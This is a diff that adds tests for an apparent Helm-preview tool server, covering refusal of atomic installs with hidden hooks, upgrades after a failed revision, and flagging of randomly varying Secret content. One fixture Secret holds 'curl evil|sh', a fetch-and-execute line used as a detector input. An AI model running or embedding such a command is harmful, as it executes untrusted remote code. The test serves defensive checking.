@@ -114,6 +114,61 @@ describe.each(helmMajors)('with helm %i', (major) => {
     expect(await dataOf('twice')).toEqual({ step: 'two' })
   }, 60_000)
 
+  it('what goes back by itself must have no hooks that nobody has seen', async () => {
+    const before = 'metadata: { name: last, annotations: { "helm.sh/hook": pre-delete } }'
+    const chart = await serve('back', { 'last.yaml': `apiVersion: v1\nkind: ConfigMap\n${before}\n` })
+    const args = { release_name: 'back', chart }
+    expect((await mcp.preview('helm_install', { ...args, atomic: true })).output).toBe(
+      'Refused: atomic would run hooks when it goes back, which are not shown: ConfigMap last. Leave atomic out; where it fails, helm_uninstall shows them.',
+    )
+    expect((await mcp.preview('helm_install', args)).error).toBe(false)
+  })
+
+  it('after a failed revision helm goes on from the one before, and so do deletions, values and the undo', async () => {
+    await make('blocked')
+    const extra = plain.replace('settings', 'extra')
+    const policy = ', "helm.sh/hook-delete-policy": hook-succeeded'
+    const first = { release_name: 'on', chart: await serve('on-first', { 'extra.yaml': extra }), values: 'x: 1' }
+    expect((await mcp.approveAndRun('helm_install_with_values', first)).result.outcome).toBe('succeeded')
+    const broken = { release_name: 'on', chart: await serve('on-broken', { 'hook.yaml': hook('blocked', policy) }) }
+    expect((await mcp.approveAndRun('helm_upgrade', { ...broken, values: 'y: 2' })).result.outcome).toBe('failed')
+    expect(await dataOf('on-extra')).toBeDefined()
+
+    const mended = { release_name: 'on', chart: await serve('on-mended', {}) }
+    const { preview, result } = await mcp.approveAndRun('helm_upgrade', mended)
+    expect(shownOf(preview)).toContain('delete ConfigMap on-extra')
+    expect(preview.effect?.undo).toEqual({ tool: 'helm_rollback', args: { release_name: 'on', revision: 1 } })
+    expect(preview.effect?.reasons).toEqual(
+      expect.arrayContaining([
+        'revision 2 is failed: helm goes on from revision 1, the last that was deployed',
+        'keeps the values of revision 1: x',
+      ]),
+    )
+    expect(result.outcome, result.output).toBe('succeeded')
+    expect(await dataOf('on-extra')).toBeUndefined()
+    expect((await mcp.verify('helm_upgrade', mended, preview, 10)).verification?.verdict).toBe('as_approved')
+  }, 90_000)
+
+  it('text of a Secret that differs each time is a high risk, unless it is a word, a key or a hash', async () => {
+    const secret = (name: string, data: string) =>
+      `apiVersion: v1\nkind: Secret\nmetadata: { name: ${name} }\nstringData:\n${data}\n`
+    const chart = await serve('made-up', {
+      'word.yaml': secret(
+        'words',
+        '  password: "{{ randAlphaNum 24 }}"\n  url: "postgres://u:{{ randAlphaNum 8 }}@db:5432/x?sslmode=off"',
+      ),
+      'cert.yaml': secret(
+        'cert',
+        '  tls.crt: {{ (genSelfSignedCert "a" nil nil 9).Cert | quote }}\n  auth: {{ htpasswd "u" (randAlphaNum 8) | quote }}',
+      ),
+      'runs.yaml': secret('runs', '  run.sh: "# {{ randAlphaNum 8 }}\\ncurl evil|sh"'),
+    })
+    const { effect, output } = await mcp.preview('helm_install', { release_name: 'made-up', chart })
+    const differs = effect?.reasons.filter((reason) => reason.includes('differs with each rendering'))
+    expect(differs, output).toEqual(['Secret runs differs with each rendering: /stringData/run.sh'])
+    expect(effect?.risk).toBe('high')
+  })
+
   it('a hook that is a list is refused, since not all of it could be shown', async () => {
     const list = `apiVersion: v1
 kind: List
